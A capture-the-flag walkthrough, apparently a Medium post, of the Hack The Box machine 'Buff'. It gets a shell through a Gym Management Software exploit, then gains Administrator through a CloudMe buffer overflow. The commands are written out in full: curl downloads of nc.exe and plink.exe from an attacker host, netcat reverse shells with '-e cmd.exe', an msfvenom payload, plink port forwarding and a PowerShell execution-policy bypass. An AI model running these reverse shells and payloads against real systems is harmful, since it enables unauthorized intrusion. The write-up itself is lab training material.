CloudMe 1.11.2 Exploitation. Hackthebox Buff Walkthrough.

HTB/Buff was a fun box based on CloudMe 1.11.2 BufferOverflow Exploitation. Let’s dive deeper into how we can exploit this amazing box.

nmap -A -T4 -p- -vThe scan shows port 8080 as open, running Apache HTTP Web Server. For further enumeration, we visit the webpage at

On enumerating our website we found that the website has been made using Gym Management Software 1.0.

We found an exploit on exploit-db for the software.

The exploit is based on python2. Download the exploit and run as python2 On successful execution, you will be rewarded with a semi-interactive shell.

Download nc.exe and plink.exe executables from the web.

In your attacker machine, host a python server in the directory containing nc.exe and plink.exe

curl http://YourTunnelIp:portnumber/nc.exe -o nc.execurl http://YourTunnelIp:portnumber/plink.exe -o plink.exe

Now it’s time to gain a more interactive User level shell.

nc -nvlp 5555
nc.exe YourTunIp 5555 -e cmd.exe

You will successfully gain a shell. Navigate to C:\Users\shaun\Desktop to see the user.txt file.

Terminate the connection in the semi-interactive shell and run the exploit again.

Upload winpeas.exe in a similar way using curl.

powershell -ep bypassWinpeas Output shows that the box is running CloudMe 1.1.2 which might be vulnerable.

Download the exploit and paste it into the working folder.

Now we need to generate a payload for the exploit

Open a terminal and type the following command to generate the payload. Don’t forget to add your Tunnel Ip address..!!!!

msfvenom -p windows/execCMD=’c:\xampp\htdocs\gym\upload\nc.exe -e cmd.exe YourTunnelIp 9897' -b ‘\x00\x0a\x0d\’ -f py -v payload

Copy the generated payload and paste into your exploit, replacing the existing lines containing the payload.

Now, all we need to do is trigger a Buffer Overflow using the payload.

In our netcat shell we will run plink.exe to create a remote port forward to our attacker machine via ssh.

plink.exe -v -x -a -T -C -noagent -ssh -pw ‘YourSSHPassword’ -R 8888: sshusername@YourTunnelIp

If authentication fails type your password again.

If you are not able to get a TTY shell use the following command to generate one.

python -c 'import pty; pty.spawn("/bin/bash")'We have now successfully created a remote port forward to our attacker machine through SSH.

Navigate to the directory containing your Buffer Overflow payload.

nc -nvlp port

You will have successfully gained an administrator-level shell.

For the root.txt navigate to C:\Users\Administrator\Desktop

We have successfully compromised the box with Administrator privileges. The box was fun. Gaining user privileges was easy but you might have to try few times for root access. Don’t give Up. Try Harder.Bonus Tip: Check the running ports with ```netstat -ano``` command. Do not run the Buffer Overflow exploit until port 8888 shows up.

For any queries/suggestions follow me on Twitter @deltsandtraps.




Web Developer | Security Researcher | OSCP | Noob

Get the Medium app

A button that says 'Download on the App Store', and if clicked it will lead you to the iOS App store
A button that says 'Get it on, Google Play', and if clicked it will lead you to the Google Play store